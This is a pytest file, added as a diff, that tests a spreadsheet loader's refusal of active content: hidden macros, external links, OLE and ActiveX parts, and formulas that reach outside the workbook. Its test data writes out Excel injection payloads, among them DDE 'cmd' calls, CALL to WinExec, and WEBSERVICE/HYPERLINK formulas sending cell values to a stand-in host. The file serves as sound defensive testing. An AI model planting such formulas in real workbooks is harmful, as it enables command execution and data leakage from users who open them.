@@ -1,0 +1,185 @@
+"""Nothing that acts when it is opened goes on to anybody: parts by content type and relation, formulas wherever they stand."""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from kpis.languages import written
+from kpis.store.store import Store
+from loaders.files.reach import reach_of
+from loaders.workbook.annotate import mark_problems
+from loaders.workbook.door import is_bureau_workbook, read_workbook
+from tests.loaders.filled import F, filled, make_store, part_of, template
+
+pytestmark = pytest.mark.edition
+Parts = dict[str, bytes]
+Change = Callable[[Parts], None]
+MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def part(name: str, content: bytes, kind: str, relation: str = "", *, of: str = "xl/_rels/workbook.xml.rels") -> Change:
+    """Add a part with its content type, and a relation to it where one is named."""
+
+    def change(parts: Parts) -> None:
+        parts[name] = content
+        if kind:
+            override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
+            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override)
+        if relation:
+            target(relation, f"/{name}", of=of)(parts)
+
+    return change
+
+
+def target(relation: str, place: str, mode: str = "", *, of: str = "xl/_rels/workbook.xml.rels") -> Change:
+    """Add a relation."""
+
+    def change(parts: Parts) -> None:
+        told = f'<Relationship Id="rIdX" Type="{relation}" Target="{place}"{mode}/></Relationships>'.encode()
+        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+        parts[of] = parts.get(of, empty).replace(b"</Relationships>", told)
+
+    return change
+
+
+def in_part(name: str, old: bytes, new: bytes) -> Change:
+    def change(parts: Parts) -> None:
+        assert old in parts[name]
+        parts[name] = parts[name].replace(old, new, 1)
+
+    return change
+
+
+def of_sheet(change: Callable[[str], Change]) -> Change:
+    def on(parts: Parts) -> None:
+        change(part_of(made_of(parts), F))(parts)
+
+    return on
+
+
+def parts_of(content: bytes) -> Parts:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def made_of(parts: Parts) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def after_data(xml: bytes) -> Change:
+    return of_sheet(lambda name: in_part(name, b"</sheetData>", b"</sheetData>" + xml))
+
+
+EXTERNAL = ' TargetMode="External"'
+REFUSED: dict[str, tuple[Change, str]] = {
+    "macros under another name": (part("xl/printer.bin", b"x", "application/vnd.ms-office.vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "macros"),
+    "a workbook that says it has macros": (in_part("[Content_Types].xml", f"{MAIN}sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
+    "a macro sheet among the worksheets": (part("xl/worksheets/sheet77.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"), "macro sheet"),
+    "a DDE link with a capital": (part("xl/ExternalLinks/e1.xml", b"<externalLink/>", f"{MAIN}externalLink+xml", f"{OFFICE}externalLink"), "links"),
+    "an external link that is called a theme": (part("xl/theme/theme9.xml", b"<externalLink/>", f"{MAIN}externalLink+xml"), "links"),
+    "an external link without a type": (part("xl/externalLinks/externalLink1.xml", b"<externalLink/>", ""), "links"),
+    "connections": (part("xl/c.xml", b"<connections/>", f"{MAIN}connections+xml", f"{OFFICE}connections"), "connection"),
+    "a query": (part("xl/q.xml", b"<queryTable/>", f"{MAIN}queryTable+xml"), "connection"),
+    "a ribbon of its own": (part("ribbon/r.xml", b"<customUI/>", "application/xml", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", of="_rels/.rels"), "ribbon"),
+    "a ribbon in the folder of custom data": (part("customXml/r.xml", b"<customUI/>", "", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", of="_rels/.rels"), "ribbon"),
+    "a web extension": (part("xl/we.xml", b"<x/>", "application/vnd.ms-office.webextension+xml"), "add-in"),
+    "an ActiveX control": (part("xl/media/a.png", b"x", "application/vnd.ms-office.activeX"), "embedded"),
+    "an OLE object": (part("xl/media/o.png", b"x", "application/vnd.openxmlformats-officedocument.oleObject"), "embedded"),
+    "an embedded file as a relation": (target(f"{OFFICE}package", "media/p.png"), "embedded"),
+    "data asked for at opening": (part("xl/v.xml", b"<volTypes/>", f"{MAIN}volatileDependencies+xml"), "connection"),
+    "a part of an unknown kind": (part("xl/new.bin", b"x", "application/x-something"), "kind that is not known"),
+    "a part without a kind": (part("xl/new.exe", b"MZ", ""), "kind that is not known"),
+    "a picture that stands elsewhere": (target(f"{OFFICE}image", "http://192.0.2.1/b.png", EXTERNAL), "links"),
+    "a picture on a share": (target(f"{OFFICE}image", "\\\\192.0.2.1\\b.png", EXTERNAL), "links"),
+    "a template that stands elsewhere": (target(f"{OFFICE}attachedTemplate", "http://192.0.2.1/t", EXTERNAL), "not known"),
+    "a link that starts a program": (target(f"{OFFICE}hyperlink", "ms-excel:ofe|u|http://192.0.2.1", EXTERNAL), "than the web"),
+    "a link to a share": (target(f"{OFFICE}hyperlink", "file:///\\\\192.0.2.1\\x", EXTERNAL), "than the web"),
+    "DDE in a name": (in_part("xl/workbook.xml", b"</sheets>", b"</sheets><definedNames><definedName name=\"a\">cmd|'/C calc'!A0</definedName></definedNames>"), "DDE"),
+    "a macro in a name": (in_part("xl/workbook.xml", b"</sheets>", b'</sheets><definedNames><definedName name="a" xlm="1">A1</definedName></definedNames>'), "RUN"),
+    "WEBSERVICE in a conditional format": (after_data(b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://x/"&amp;A1)=1</formula></cfRule></conditionalFormatting>'), "WEBSERVICE"),
+    "another workbook in a check of a cell": (after_data(b'<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]Sheet1!A1</formula1></dataValidation></dataValidations>'), "another workbook"),
+    "RTD in an extension": (after_data(b'<extLst><ext xmlns:x14="urn:x14" xmlns:xm="urn:xm"><x14:dataValidation><x14:formula1><xm:f>RTD("a",,"b")</xm:f></x14:formula1></x14:dataValidation></ext></extLst>'), "RTD"),
+    "another workbook in a chart": (part("xl/charts/chart1.xml", b'<c:chart xmlns:c="urn:c"><c:f>[2]S!$A$1</c:f></c:chart>', "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"), "another workbook"),
+    "a text box that reads another workbook": (part("xl/drawings/d.xml", b'<d:sp xmlns:d="urn:d" textlink="[3]S!A1"/>', "application/vnd.openxmlformats-officedocument.drawing+xml"), "another workbook"),
+    "a picture of a note that stands elsewhere": (part("xl/drawings/v.vml", b'<xml><v:fill o:href="http://192.0.2.1/x"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing"), "embedded"),
+    "no list of kinds": (lambda parts: parts.pop("[Content_Types].xml") and None, "Content_Types"),
+}  # fmt: skip
+FORMULAS = [
+    "WEBSERVICE(\"http://192.0.2.1/?\"&A1)", "_xlfn.WEBSERVICE(A1)", "webservice (A1)", "cmd|'/C calc'!A0", "'cmd'|'/C calc'!A0", "RTD(\"a\",,\"b\")",
+    "HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")", "_xlfn.IMAGE(\"http://192.0.2.1/\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+    "[1]Sheet1!A1", "SUM([2]S!A1:A9)", "'[book.xlsx]S'!A1", "'C:\\x\\[b.xlsx]S'!A1", "'\\\\192.0.2.1\\x\\b.xlsx'!n", "CUBEVALUE(\"c\",\"m\")",
+    "_xll.GO()", "1+REGISTER.ID(\"a\",\"b\")", "DDE(\"soffice\";\"x\";\"y\")", "IF(TRUE,[1]!n)", "_xlfn._xlws.PY(0,0)",
+]  # fmt: skip
+HARMLESS = [
+    "SUM(A1:A9)", "Table1[2022]", "表1[[#This Row],[2022]:[2023]]", "IF(A1=\"a|b\",1,2)", "'a|b'!A1", "\"WEBSERVICE(\"&A1", "SUM(Table1[[#All],[1]])",
+    "A1/B1", "TEXT(A1,\"[h]:mm\")", "'Jan:Mar'!A1", "VLOOKUP(A1,S!A:B,2,0)", "MYHYPERLINK(A1)", "LAMBDA(x,x+1)(2)", "\"\"", "",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def sound(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, bytes]]:
+    store = make_store(Path(tmp_path_factory.mktemp("active")))
+    yield store, filled(template(store))
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_workbook_that_would_act_is_refused_and_named(name: str, sound: tuple[Store, bytes]) -> None:
+    store, content = sound
+    change, named = REFUSED[name]
+    parts = parts_of(content)
+    change(parts)
+    reading = read_workbook(made_of(parts), store=store)
+    (problem,) = reading.problems
+    assert named in problem.found and reading.mark is None
+    assert all(written(m, code) for m in (problem.expected, problem.remedy) for code in ("ja", "en"))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_that_reaches_outside_is_told(formula: str) -> None:
+    assert reach_of(formula) is not None
+
+
+@pytest.mark.parametrize("formula", HARMLESS)
+def test_a_formula_of_the_workbook_itself_is_none(formula: str) -> None:
+    assert reach_of(formula) is None
+
+
+def test_a_formula_that_acts_is_named_at_its_cell_and_not_in_the_marked_workbook(sound: tuple[Store, bytes]) -> None:
+    store, content = sound
+    parts = parts_of(content)
+    name = part_of(content, F)
+    acting = b"<c r=\"H7\"><f>cmd|'/C calc'!A0</f><v>5</v></c>"
+    parts[name], count = re.subn(rb'<c r="H7"[^>]*?(?:/>|>.*?</c>)', acting, parts[name])
+    assert count == 1
+    made = made_of(parts)
+    problems = read_workbook(made, store=store).problems
+    assert [(p.kind, p.sheet, p.cell) for p in problems] == [("formula", F, "H7")] and "DDE" in problems[0].found
+    assert is_bureau_workbook(made)
+    marked = mark_problems(made, problems)
+    assert b"calc" not in parts_of(marked)[name]
+    assert [(p.kind, p.cell) for p in read_workbook(marked, store=store).errors] == [
+        ("error_cell", "H7")
+    ]  # and its value counts for nothing
+
+
+def test_a_workbook_with_links_to_the_web_and_a_sensitivity_label_is_read(sound: tuple[Store, bytes]) -> None:
+    store, content = sound
+    parts = parts_of(content)
+    for change in (
+        target(f"{OFFICE}hyperlink", "https://example.org/a", EXTERNAL), target(f"{OFFICE}hyperlink", "mailto:a@example.org", EXTERNAL),
+        part("docMetadata/LabelInfo.xml", b"<x/>", "application/vnd.ms-office.classificationlabels+xml", "http://schemas.microsoft.com/office/2020/02/relationships/classificationlabels", of="_rels/.rels"),
+        part("customXml/item1.xml", b"<x/>", "", f"{OFFICE}customXml"),
+    ):  # fmt: skip
+        change(parts)
+    assert read_workbook(made_of(parts), store=store).errors == []
